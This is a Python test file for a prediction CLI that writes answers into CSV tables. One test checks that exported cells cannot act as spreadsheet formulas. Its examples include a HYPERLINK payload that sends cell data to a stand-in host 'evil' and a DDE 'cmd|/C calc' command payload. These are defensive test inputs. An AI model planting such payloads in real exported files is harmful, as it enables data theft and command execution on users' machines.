"""`understudy predict --to`: a table goes in, and comes back with the answers beside its columns."""

import csv
from collections.abc import Sequence
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cli.conftest import Give
from trained import PROJECT, Trained
from understudy.cli.answers_file import AnswersFile
from understudy.cli.source import Asked
from understudy.domain.answer import answer_from
from understudy.domain.task import AnswerKind

GOOD, BAD = ("good", "lovely", "great", "fine"), ("awful", "bad", "broken", "poor")


def written(path: Path, rows: Sequence[Sequence[object]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def remark(seed: int) -> tuple[str, str]:
    rng = np.random.default_rng(seed)
    label = ("praise", "complaint")[seed % 2]
    words = rng.choice(GOOD if label == "praise" else BAD, 2)
    return f"The {rng.choice(['box', 'lamp', 'chair'])} is {words[0]} and {words[1]}, number {seed}", label


@pytest.fixture(scope="module")
def texts(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A table of remarks that were sorted by hand."""
    place = tmp_path_factory.mktemp("texts")
    return written(place / "remarks.csv", [("text", "label"), *map(remark, range(48))])


@pytest.fixture(scope="module")
def prices(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A table of flats with their rents."""
    rng = np.random.default_rng(0)
    rooms, floor = rng.integers(1, 6, 80), rng.integers(0, 9, 80)
    rents = 300 * rooms + 20 * floor + rng.normal(0, 15, 80)
    rows = [(int(r), int(f), round(float(p), 1)) for r, f, p in zip(rooms, floor, rents, strict=True)]
    return written(tmp_path_factory.mktemp("prices") / "flats.csv", [("rooms", "floor", "answer"), *rows])


CELLS = st.text(
    st.one_of(st.sampled_from("=+-@\t\r\n＝’'1.,%€ (a"), st.characters(exclude_categories=["Cs"])), max_size=9
)
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@given(cell=CELLS, label=CELLS)
@example(cell='=HYPERLINK("http://evil/?x="&A1,"ok")', label="@SUM(1)")
@example(cell="-2+3+cmd|' /C calc'!A0", label="+1")
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_cell_is_a_formula(tmp_path: Path, cell: str, label: str) -> None:
    """Whatever was asked and whatever is answered, a spreadsheet finds texts and numbers; all else stays as it is."""
    path = tmp_path / "out.csv"
    path.unlink(missing_ok=True)
    with AnswersFile(path, AnswerKind.LABEL, ["cell"], why=False) as file:
        asked = Asked("x", lambda: b"", {"cell": cell})
        file.answered(asked, answer_from((label, "other"), (0.9, 0.1), threshold=0.5))
    with path.open(encoding="utf-8-sig", newline="") as opened:
        header, row = csv.reader(opened)
    found = dict(zip(header, row, strict=True))
    for before, kept in ((cell, found["cell"]), (label, found["answer"])):
        assert kept in {before, f"'{before}"}
        if kept != before:
            assert before.startswith(FORMULAS)
        elif kept.startswith(FORMULAS):
            assert not any(map(str.isalpha, kept.replace("e", "").replace("E", "")))
            assert not set(kept[1:]) & set("=@(|!&*/")


@pytest.mark.parametrize("number", ["-1.5", "+3", "-1,234.50", "-2e-5", "-12%", "-5 €", "-$3", "-", "--"])
def test_numbers_stay_numbers(tmp_path: Path, number: str) -> None:
    """A sign does not make a formula of a number, nor does the dash of a missing value."""
    with AnswersFile(tmp_path / "out.csv", AnswerKind.LABEL, ["cell"], why=False) as file:
        asked = Asked("x", lambda: b"", {"cell": number})
        file.answered(asked, answer_from(("a", "b"), (0.9, 0.1), threshold=0.5))
    assert read(tmp_path / "out.csv")[0]["cell"] == number


def test_a_table_of_texts_comes_back_answered(give: Give, texts: Path, tmp_path: Path) -> None:
    """Each row keeps its cells and its place; what holds no text keeps its line, with the problem."""
    assert give("train", texts, "--trials", "3", workspace=tmp_path / "w").status == 0
    later = [remark(seed) for seed in range(100, 170)]
    rows = [("day", "message"), *(("Monday, again", text) for text, _ in later), ("Tuesday", "")]
    asked = written(tmp_path / "later.csv", rows)
    said = give("predict", "remarks", asked, "--to", tmp_path / "out.csv", workspace=tmp_path / "w")
    found = read(tmp_path / "out.csv")
    said_of = ["answer", "probability", "ask a person", "else", "its probability", "problem", "remark"]
    assert list(found[0]) == ["day", "message", *said_of]
    assert [(row["day"], row["message"]) for row in found] == rows[1:]
    assert np.mean([row["answer"] == label for row, (_, label) in zip(found, later, strict=False)]) >= 0.9
    assert said.status == 1
    assert found[-1]["answer"] == ""
    assert found[-1]["problem"].startswith(f"{asked}, row 72: ")
    assert f"{asked}, row 72: " in said.err
    alone = sum(row["ask a person"] == "no" for row in found)
    assert said.out.startswith(f"{tmp_path / 'out.csv'}: 70 answers, {alone} of which the model is sure enough of.")
    one = give("predict", "remarks", later[0][0], workspace=tmp_path / "w").out
    assert found[0]["answer"] in one
    mixed = [asked, later[0][0], "--to", tmp_path / "mixed.csv"]
    give("predict", "remarks", *mixed, workspace=tmp_path / "w")
    assert [row["input"] for row in read(tmp_path / "mixed.csv")] == [""] * 71 + [later[0][0]]
    named = give("predict", "remarks", asked, "--text", "message", "--json", workspace=tmp_path / "w")
    assert len(named.out.splitlines()) == 70


def test_rows_keep_their_cells_and_numbers_their_interval(give: Give, prices: Path, tmp_path: Path) -> None:
    """A column that is called as the model's is marked; what moved an answer stands beside it when asked for."""
    trained = give("train", prices, "--target", "answer", "--trials", "2", workspace=tmp_path / "w")
    assert trained.status == 0
    said = give("predict", "flats", prices, "--why", "--to", tmp_path / "out.csv", workspace=tmp_path / "w")
    assert said.status == 0
    found = read(tmp_path / "out.csv")
    assert [row["answer"] for row in found] == [row["answer"] for row in read(prices)]
    for row in found:
        assert float(row["at least"]) <= float(row["answer (model)"]) <= float(row["at most"])
        parts = [part.split(": ", 1) for part in row["why"].split("; ") if part]
        assert {moved for moved, _ in parts} <= {"raises it", "lowers it"}
        assert {each.partition(":")[0] for _, what in parts for each in what.split(", ")} <= {"rooms", "floor"}
    assert any("raises it: rooms: " in row["why"] for row in found)


def test_photos_are_named_and_nothing_is_written_over(trained: Trained, give: Give, tmp_path: Path) -> None:
    """Of files the column `input` says which; a file that is there already is left as it is."""
    photos = sorted(trained.photos.glob("*/photo 1*.jpg"))
    (tmp_path / "empty.jpg").write_bytes(b"")
    words = ["predict", PROJECT, *photos, tmp_path / "empty.jpg", "--to", tmp_path / "out.csv"]
    assert give(*words, workspace=trained.folder).status == 1
    found = read(tmp_path / "out.csv")
    assert [row["input"] for row in found] == [*map(str, photos), str(tmp_path / "empty.jpg")]
    assert [row["answer"] for row in found[:-1]] == [photo.parent.name for photo in photos]
    before = (tmp_path / "out.csv").read_bytes()
    again = give(*words, workspace=trained.folder)
    assert again.status == 1
    assert "is there already.\n" in again.err
    assert (tmp_path / "out.csv").read_bytes() == before


@pytest.mark.parametrize("file", ["/dev/full", "/nowhere/at/all.csv"])
def test_what_cannot_be_written_is_said(file: str, trained: Trained, give: Give) -> None:
    """A file in no folder is refused with the system's reason; so is one that is there."""
    said = give("predict", PROJECT, trained.photo, "--to", file, workspace=trained.folder)
    assert said.status == 1
    assert f"“{file}” " in said.err
    assert len(said.err.splitlines()) == 3


def test_two_ways_at_once_are_refused(trained: Trained, give: Give, tmp_path: Path) -> None:
    """A file and lines of JSON are not given together."""
    words = ["predict", PROJECT, trained.photo, "--json", "--to", tmp_path / "out.csv"]
    assert give(*words, workspace=trained.folder).status == 2
    assert not (tmp_path / "out.csv").exists()
